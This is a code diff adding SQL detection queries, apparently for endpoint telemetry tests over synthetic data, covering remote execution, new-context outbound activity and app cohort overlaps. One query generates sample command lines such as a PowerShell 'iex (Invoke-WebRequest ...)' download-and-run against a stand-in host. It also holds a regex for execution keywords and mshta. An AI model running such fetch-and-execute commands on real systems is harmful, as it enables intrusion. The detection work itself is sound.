@@ -253,6 +253,15 @@ SQL = {
       LEFT JOIN shown p ON p.host = q.host AND p.app = s.app AND p.parent = s.parent AND p.location = s.location GROUP BY s.host, s.app, s.parent, s.location""",
     "dt01_novelty": f"WITH {_GATES} SELECT host, app, parent, location, gate AS category, fleet_hosts, app_hosts, pattern_hosts FROM gated WHERE gate IN ('rare_application', 'rare_launch_relationship')",
     "dt02_funnel": f"WITH {_GATES} SELECT gate, count(*) AS n FROM gated GROUP BY gate",
+    "dt03_remote_execution": f"""WITH {_OBS}, x AS (SELECT event_id, host, ['powershell.exe', 'mshta.exe', 'notepad.exe', 'cmd.exe'][k % 4 + 1] AS app,
+      ['x https://a.example/p', 'iex (Invoke-WebRequest HTTP://a.example)', 'start-process y', 'javascript:z http://b'][k % 7 % 4 + 1] AS command FROM obs)
+      SELECT event_id, host, app, 'high' AS priority FROM x WHERE app <> 'notepad.exe' AND regexp_matches(lower(command), 'https?://')
+        AND (app = 'mshta.exe' OR regexp_matches(lower(command), '\\biex\\b|invoke-expression|start-process|javascript:|vbscript:'))""",
+    "dt04_outbound_from_new_context": f"""WITH {_OBS}{_DAYS}, c AS (SELECT host, k AS guid, ts AS created, day, app, parent, location FROM (SELECT *, row_number() OVER (PARTITION BY host, k ORDER BY ts, event_id) AS r FROM obs WHERE event_type = 'click') WHERE r = 1),
+      n AS (SELECT c.*, min(o.ts) AS network_ts FROM c JOIN obs o ON o.host = c.host AND o.k = c.guid AND o.event_type = 'purchase' AND o.ts >= c.created GROUP BY ALL)
+      SELECT host, guid, app, parent, location, round(created, 9) AS created, round(network_ts, 9) AS network_ts FROM n
+      WHERE (location = 'user-profile' OR guid % 10 = 3) AND (SELECT count(DISTINCT day) FROM days d WHERE d.host = n.host AND d.day >= n.day - 28 AND d.day < n.day) >= 7
+        AND NOT EXISTS (SELECT 1 FROM days d WHERE d.host = n.host AND d.app = n.app AND d.parent = n.parent AND d.location = n.location AND d.day >= n.day - 28 AND d.day < n.day)""",
     "findings": f"WITH {_FOUND} SELECT host, detector, category, identity, round(first_seen, 9) AS first_seen, round(last_seen, 9) AS last_seen, occurrences, first_parent FROM found",
     "findings_unexpected": f"WITH {_FOUND} SELECT host, identity, occurrences FROM found WHERE NOT (CAST(host AS INT) % 3 = 0 AND CAST(host AS INT) % 2 <> 0)",
     "process_network": f"""WITH {_OBS}, c AS (SELECT host, k, min(ts) AS created FROM obs WHERE event_type = 'click' GROUP BY ALL)
@@ -300,6 +309,11 @@ SQL = {
       {_FEATURES}, {_seeds('prev', 'total')}, seenh AS (SELECT host FROM later GROUP BY host HAVING count(DISTINCT day) >= 3), shown AS (SELECT DISTINCT host, 'app:' || app AS app FROM later)
       SELECT first, second, count(*) AS members, count(s.host) AS observed, count(s.host) FILTER (EXISTS (SELECT 1 FROM shown x WHERE x.host = m.host AND x.app = m.first) AND EXISTS (SELECT 1 FROM shown x WHERE x.host = m.host AND x.app = m.second)) AS persistent
       FROM member m LEFT JOIN seenh s ON s.host = m.host GROUP BY first, second""",
+    "cohort_pair_overlaps": f"""WITH {_TEAM}, m AS (SELECT DISTINCT host, app FROM obs), s AS (SELECT app, count(*) AS n FROM m GROUP BY app),
+      p AS (SELECT x.app AS a, y.app AS b, count(*) AS c FROM m x JOIN m y ON x.host = y.host AND x.app < y.app GROUP BY ALL)
+      SELECT a, b, round(c / (sa.n + sb.n - c), 9) AS overlap FROM p JOIN s sa ON sa.app = a JOIN s sb ON sb.app = b""",
+    "best_groups": """WITH g AS (SELECT l_suppkey AS host, l_partkey % 40 AS grp, round(avg(l_quantity) / 100, 6) AS delta, count(*) AS pairs, count(DISTINCT l_orderkey) AS members FROM lineitem GROUP BY ALL)
+      SELECT host, grp, delta, pairs, members FROM (SELECT *, row_number() OVER (PARTITION BY host ORDER BY delta DESC, pairs DESC, members DESC, grp) AS r FROM g WHERE delta >= 0.1 AND members >= 3 AND pairs >= 5) WHERE r = 1""",
     "finding_families": f"WITH {_FAMILIES} SELECT detector, category, parent, location, shape, findings, hosts, variants, first_seen, last_seen, pattern, version_churn FROM fam",
     "finding_families_top": f"WITH {_FAMILIES} SELECT detector, category, parent, location, shape, findings, hosts FROM fam ORDER BY findings DESC, hosts DESC, detector, category, parent, location, shape LIMIT 30",
     "variant_examples": f"WITH {_TABLE} SELECT shape, name, findings, r FROM (SELECT shape, name, count(*) AS findings, row_number() OVER (PARTITION BY shape ORDER BY count(*) DESC, name) AS r FROM tab GROUP BY shape, name) WHERE r <= 8",
